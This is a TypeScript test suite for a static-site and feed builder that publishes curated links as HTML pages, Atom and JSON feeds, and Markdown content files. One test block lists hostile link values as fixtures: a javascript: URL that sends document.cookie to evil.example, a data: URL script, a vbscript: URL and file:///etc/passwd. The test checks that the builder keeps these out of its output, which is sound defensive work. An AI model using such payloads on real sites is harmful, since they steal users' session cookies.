import fc from 'fast-check';
import { parseAtomFeed, parseJsonFeed } from 'feedsmith';
import { HtmlValidate } from 'html-validate';
import { describe, expect, it } from 'vitest';
import { pickOf, type PickedLink } from '../pick';
import { itemRow } from '../testing';
import { buildSite, MANIFEST_PATH, parseManifest } from './build';
import { entryOf } from './entries';

const settings = {
  remote: '/tmp/x',
  title: 'Distributed Links',
  baseUrl: 'https://links.example.org/ds',
  description: 'Papers & posts <worth> reading',
  pageSize: 2,
};

/** The key the raft pick's record fixed when it was first published (slug and item id prefix). */
const RAFT_KEY = `raft-${itemRow({ url: 'https://raft.github.io/' }).id.slice(0, 8)}`;

function picks(): PickedLink[] {
  const day = 86_400_000;
  return [
    itemRow({
      url: 'https://raft.github.io/',
      title: 'Raft & friends',
      tags: ['consensus', 'c++'],
      note: 'The <b>clearest</b> consensus paper.',
      publications: {
        site: { target: 'site', key: RAFT_KEY, by: 'm1', at: 10 * day, state: 'published' },
      },
    }),
    itemRow({
      url: 'https://例え.jp/論文',
      title: '分散システム入門 🎉',
      tags: ['consensus'],
      description: 'Ελληνικά και 日本語',
      addedAt: 9 * day,
    }),
    itemRow({
      url: 'https://a.example/crdt',
      title: 'CRDTs "in practice"',
      tags: ['crdt'],
      addedAt: 8 * day,
    }),
    itemRow({ url: 'https://a.example/old', title: 'Old', addedAt: 1 * day }),
    // The first blurb was typed in the Publish dialog, markup and all; it goes out as text.
  ].map((row, i) => (i === 0 ? pickOf(row, row.note) : pickOf(row)));
}

describe('buildSite (Curio site)', () => {
  const files = buildSite(picks(), settings);

  it('makes a home page of Recent Posts, a paginated archive, a page per pick and per tag, feeds and links.json', () => {
    const keys = picks().map((p) => entryOf(p).key);
    expect([...files.keys()]).toEqual(
      [
        '.curio/manifest.json',
        'feed.json',
        'feed.xml',
        'index.html',
        'links.json',
        'page/2/index.html',
        ...keys.map((key) => `posts/${key}/index.html`),
        'style.css',
        expect.stringMatching(/^tags\/c-[a-z0-9]{6}\/index\.html$/),
        'tags/consensus/index.html',
        'tags/crdt/index.html',
        'tags/index.html',
      ].sort((a, b) => (typeof a === 'string' && typeof b === 'string' ? (a < b ? -1 : 1) : 0)),
    );
    const index = files.get('index.html') ?? '';
    // The site's title and description introduce it; the picks follow under Recent Posts.
    expect(index).toContain(
      '<h1>Distributed Links</h1>\n<p>Papers &amp; posts &lt;worth&gt; reading</p>',
    );
    expect(index).toContain('<h2 id="posts">Recent Posts</h2>');
    expect(index).toContain(
      `<h3 class="p-name"><a class="u-url" href="./posts/${RAFT_KEY}/">Raft &amp; friends</a></h3>`,
    );
    expect(index).toContain(
      '<a class="p-name u-url" href="https://raft.github.io/">Raft &amp; friends</a>',
    );
    expect(index).toContain('The &lt;b&gt;clearest&lt;/b&gt; consensus paper.');
    expect(index).toContain(
      '<time class="dt-published" datetime="1970-01-11">11 January 1970</time>',
    );
    expect(index).toContain('href="./page/2/" rel="next"');
    expect(files.get('page/2/index.html')).toContain('href="../../" rel="prev"');
    expect(index).not.toMatch(/<script/i);
    expect(parseManifest(files.get(MANIFEST_PATH) ?? null)?.picks).toHaveLength(4);
  });

  it('pages a tag like the archive, and links every page to one stylesheet', () => {
    const one = buildSite(picks(), { ...settings, pageSize: 1 });
    expect([...one.keys()].filter((p) => p.startsWith('tags/consensus/'))).toEqual([
      'tags/consensus/index.html',
      'tags/consensus/page/2/index.html',
    ]);
    expect(one.get('tags/consensus/index.html')).toContain(
      'href="../../tags/consensus/page/2/" rel="next"',
    );
    const second = one.get('tags/consensus/page/2/index.html') ?? '';
    expect(second).toContain('href="../../../../tags/consensus/" rel="prev"');
    expect(second).toContain('<link rel="stylesheet" href="../../../../style.css">');
    expect(one.get('style.css')).toContain('prefers-color-scheme: dark');
  });

  it('gives every page OpenGraph and Twitter card tags and links to the feeds', () => {
    for (const [path, text] of files) {
      if (!path.endsWith('.html')) continue;
      const dir = path.replace(/index\.html$/, '');
      expect(text, path).toContain(
        `<meta property="og:url" content="https://links.example.org/ds/${dir}">`,
      );
      expect(text, path).toMatch(/<meta property="og:title" content="[^"]+">/);
      expect(text, path).toContain('<meta property="og:site_name" content="Distributed Links">');
      expect(text, path).toMatch(/<meta name="twitter:card" content="summary(_large_image)?">/);
      expect(text, path).toContain('<link rel="alternate" type="application/atom+xml"');
      expect(text, path).toContain('<link rel="alternate" type="application/feed+json"');
    }
    const raft = files.get(`posts/${RAFT_KEY}/index.html`) ?? '';
    expect(raft).toContain('<meta property="og:type" content="article">');
    expect(raft).toContain('<meta property="og:title" content="Raft &amp; friends">');
    expect(raft).toContain(
      '<meta property="og:description" content="The &lt;b&gt;clearest&lt;/b&gt; consensus paper.">',
    );
    expect(raft).toContain('<meta property="article:tag" content="c++">');
  });
  it('writes HTML that passes html-validate', async () => {
    const validator = new HtmlValidate({ extends: ['html-validate:recommended'] });
    for (const [path, text] of files) {
      if (!path.endsWith('.html')) continue;
      const report = await validator.validateString(text, path);
      const messages = report.results.flatMap((r) =>
        r.messages.map((m) => `${path}:${m.line}: ${m.ruleId} ${m.message}`),
      );
      expect(messages).toEqual([]);
    }
  });

  it('writes feeds a feed reader parses', () => {
    const atom = parseAtomFeed(files.get('feed.xml') ?? '');
    expect(atom.title).toEqual({ value: 'Distributed Links' });
    expect(atom.entries?.map((e) => e.title?.value)).toEqual([
      'Raft & friends',
      '分散システム入門 🎉',
      'CRDTs "in practice"',
      'Old',
    ]);
    expect(atom.entries?.[0]?.links?.[0]?.href).toBe('https://raft.github.io/');
    const json = parseJsonFeed(JSON.parse(files.get('feed.json') ?? '{}'));
    expect(json.items?.[1]?.external_url).toBe('https://例え.jp/論文');
    expect(json.items?.[1]?.content_text).toBe('Ελληνικά και 日本語');
    expect(json.feed_url).toBe('https://links.example.org/ds/feed.json');
  });

  it('keeps feeds well-formed whatever a title holds', () => {
    const odd = pickOf(
      itemRow({
        url: 'https://a.example/odd',
        title: 'a ]]> b <c> \u0001 & "d"',
      }),
      'x\u0002y',
    );
    const built = buildSite([odd], settings);
    const atom = parseAtomFeed(built.get('feed.xml') ?? '');
    expect(atom.entries?.[0]?.title?.value).toBe('a ]]> b <c>  & "d"');
    expect(atom.entries?.[0]?.summary?.value).toBe('xy');
    expect(built.get('feed.xml')).toContain('xml:lang="en"');
    expect(buildSite([odd], settings).get('feed.xml')).toBe(built.get('feed.xml'));
  });

  it('uses template overrides from the site repository', () => {
    const custom = buildSite(picks(), settings, { list: '{{#picks}}<p>{{title}}</p>{{/picks}}' });
    expect(custom.get('index.html')).toContain('<p>Raft &amp; friends</p>');
  });
});

describe('buildSite and links that are not http(s)', () => {
  const hostile = [
    "javascript:fetch('https://evil.example/?c='+document.cookie)//https://example.com/",
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
  ];
  // A co-maintainer can write any url into the shared document; the builder checks on its own.
  const picksWith = hostile.map((url, i) =>
    pickOf({ ...itemRow({ url: `https://evil.example/${i}`, title: `Evil ${i}` }), url }, 'Click'),
  );

  it('never builds one into a page, a feed or a content file, whoever picked it', () => {
    const good = picks()[1]!;
    for (const format of ['curio-site', 'content-files'] as const) {
      const files = buildSite([...picksWith, good], { ...settings, format });
      for (const [path, text] of files) {
        for (const scheme of ['javascript:', 'data:', 'vbscript:', 'file:'])
          expect(`${path}: ${text}`).not.toContain(scheme);
        expect(text).not.toContain('Evil');
      }
      expect([...files.values()].join()).toContain(good.item.url);
    }
  });
});

describe('buildSite (content files)', () => {
  it('writes one Markdown file with front matter per pick into the folder', () => {
    const files = buildSite(picks().slice(0, 2), {
      ...settings,
      format: 'content-files',
      contentDir: 'content/links',
    });
    const raft = files.get(`content/links/${RAFT_KEY}.md`);
    expect(raft).toBe(
      [
        '---',
        'title: "Raft & friends"',
        'date: 1970-01-11T00:00:00.000Z',
        'link: "https://raft.github.io/"',
        'host: "raft.github.io"',
        'tags: ["c++", "consensus"]',
        `curio_id: "${picks()[0]!.item.id}"`,
        '---',
        '',
        'The <b>clearest</b> consensus paper.',
        '',
      ].join('\n'),
    );
    expect([...files.keys()].filter((p) => p.startsWith('content/'))).toHaveLength(2);
  });
});

describe('buildSite properties', () => {
  const pickArb = fc
    .record({
      path: fc.stringMatching(/^[a-z0-9]{1,12}$/),
      title: fc
        .string({ unit: 'grapheme', minLength: 1, maxLength: 40 })
        .filter((t) => t.trim().length > 0),
      note: fc.string({ unit: 'grapheme', maxLength: 60 }),
      tags: fc.array(fc.constantFrom('ai', 'c++', 'crdt', 'raft', 'ünï'), { maxLength: 3 }),
      addedAt: fc.integer({ min: 0, max: 4_000_000_000_000 }),
    })
    .map((r) =>
      pickOf(
        itemRow({
          url: `https://site.example/${r.path}`,
          title: r.title,
          note: r.note,
          tags: r.tags,
          addedAt: r.addedAt,
        }),
      ),
    );
  const picksArb = fc.uniqueArray(pickArb, { selector: (p) => p.item.id, maxLength: 30 });

  it('is deterministic whatever the input order, and every pick reaches the pages and feeds', () => {
    fc.assert(
      fc.property(picksArb, fc.nat(), (list, seed) => {
        const shuffled = [...list].sort(
          (a, b) => (a.item.id.charCodeAt(seed % 20) ?? 0) - (b.item.id.charCodeAt(seed % 20) ?? 0),
        );
        const a = buildSite(list, settings);
        const b = buildSite(shuffled, settings);
        expect([...b.entries()]).toEqual([...a.entries()]);
        const pages = [...a.entries()]
          .filter(([p]) => p === 'index.html' || p.startsWith('page/'))
          .map(([, t]) => t)
          .join('\n');
        const atom = parseAtomFeed(a.get('feed.xml') ?? '');
        const json = parseJsonFeed(JSON.parse(a.get('feed.json') ?? '{}'));
        const links = JSON.parse(a.get('links.json') ?? '{}') as { links: Array<{ url: string }> };
        expect(links.links.map((l) => l.url).sort()).toEqual(list.map((p) => p.item.url).sort());
        for (const pick of list) {
          expect(pages).toContain(`<a class="p-name u-url" href="${pick.item.url}">`);
          expect(a.has(`posts/${entryOf(pick).key}/index.html`)).toBe(true);
          expect(atom.entries?.some((e) => e.links?.[0]?.href === pick.item.url)).toBe(true);
          expect(json.items?.some((i) => i.external_url === pick.item.url)).toBe(true);
        }
      }),
      { numRuns: 60 },
    );
  });
});
